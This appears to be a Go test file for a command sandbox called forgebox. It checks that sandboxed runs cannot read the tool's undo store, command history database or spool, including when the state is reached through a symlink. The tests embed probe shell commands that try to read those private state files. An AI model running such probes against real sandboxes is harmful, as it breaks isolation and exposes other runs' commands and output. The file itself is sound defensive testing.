// state lies inside the server's workspace (XDG_STATE_HOME in a project):
// the records of other workspaces, with the files deleted there, are not
// read.
func TestUndoStoreHiddenFromFileTools(t *testing.T) {
	forEachMode(t, func(t *testing.T, e *env) {
		state := filepath.Join(e.ws, ".state")
		if err := os.MkdirAll(state, 0o755); err != nil {
			t.Fatal(err)
		}
		e.chown(state)
		e.extra = append(e.extra, "XDG_STATE_HOME="+state)
		other := filepath.Join(e.dir, "other")
		e.write(filepath.Join(other, "s.txt"), "kept-in-the-record\n")
		if r := e.run([]string{"run", "-c", "rm s.txt"}, inDir(other)); r.code != 0 {
			t.Fatalf("run in %s: %d %s", other, r.code, r.stderr)
		}
		kept, _ := filepath.Glob(filepath.Join(state, "forgebox", "undo", "*", "2*", "before", "s.txt"))
		if len(kept) != 1 {
			t.Fatalf("the record of the run in %s is not in %s", other, state)
		}
		rel, _ := filepath.Rel(e.ws, kept[0])
		c := e.serveMCP(nil)
		if _, text := c.call("read_file", map[string]any{"path": rel}, nil); strings.Contains(text, "kept-in-the-record") {
			t.Fatalf("read_file %s read the undo store: %s", rel, text)
		}
	})
}

// forgebox's state is hidden from every run: the history (every run's
// command and output), its spool and the other runs' Git config copies
// cannot be read from inside, by path or by listing; and what a run needs
// of the state (its own copy of .git/config, its caches) still works.
func TestForgeboxStateHidden(t *testing.T) {
	forEachMode(t, func(t *testing.T, e *env) {
		state := filepath.Join(e.stateHome(), "forgebox")
		e.mkdir(filepath.Join(e.home, ".cache"))
		if r := e.run([]string{"run", "-c", "echo the-earlier-output"}); r.code != 0 {
			t.Fatalf("first run: %d %s", r.code, r.stderr)
		}
		e.git(e.ws, "init", "-q", ".")
		line := fmt.Sprintf("head -c 15 %[1]s/history.db; cat %[1]s/history.db.spool/* %[1]s/history.db.spool 2>/dev/null | head -c 2000; ls -A %[1]s; git config --local core.bare; echo x > ~/.cache/f && echo cache-ok", state)
		r := e.run([]string{"run", "-c", line})
		if strings.Contains(r.stdout, "SQLite format") || strings.Contains(r.stdout, "the-earlier-output") {
			t.Fatalf("a run read forgebox's history:\n%s", r.stdout)
		}
		if !strings.Contains(r.stdout, "false") || !strings.Contains(r.stdout, "cache-ok") {
			t.Fatalf("the run's own Git config copy or cache did not work:\n%s\n%s", r.stdout, r.stderr)
		}
		// The listing shows at most the mount point of the run's own Git
		// config copy.
		for _, l := range strings.Fields(r.stdout) {
			if l != "false" && l != "cache-ok" && l != "gitconfig" {
				t.Fatalf("the run saw forgebox's state: %q in\n%s", l, r.stdout)
			}
		}
	})
}

// XDG_STATE_HOME reached through a symbolic link (a dotfiles setup, a home
// under a linked /home): every run failed with "too many levels of
// symbolic links", since the child clones the caches and the undo record
// beneath the state directory without following any. The state is
// resolved first: runs keep their caches and undo, and stay hidden from it.
func TestStateThroughSymlink(t *testing.T) {
	forEachMode(t, func(t *testing.T, e *env) {
		link := filepath.Join(e.dir, "state-link")
		if err := os.Symlink(e.stateHome(), link); err != nil {
			t.Fatal(err)
		}
		e.chown(link)
		e.extra = append(e.extra, "XDG_STATE_HOME="+link)
		e.mkdir(filepath.Join(e.home, ".cache"))
		e.write(filepath.Join(e.ws, "a.txt"), "a\n")
		before := treeHash(t, e.ws)
		out := e.undoRun("echo b > a.txt; echo c > ~/.cache/c; cat " + filepath.Join(link, "forgebox", "history.db") + " 2>&1 | head -c 20")
		if out.ExitCode != 0 {
			t.Fatalf("a run with the state through a symlink: %+v", out)
		}
		r := e.run([]string{"run", "--json", "-c", "head -c 15 " + filepath.Join(link, "forgebox", "history.db")})
		if strings.Contains(r.stdout, "SQLite format") {
			t.Fatalf("the run read the history through the state's symlink: %s", r.stdout)
		}
		if r := e.run([]string{"undo", "--to", out.Changes.UndoID}); r.code != 0 || treeHash(t, e.ws) != before {
			t.Fatalf("undo through the linked state: %d %s", r.code, r.stderr)
		}
	})
}
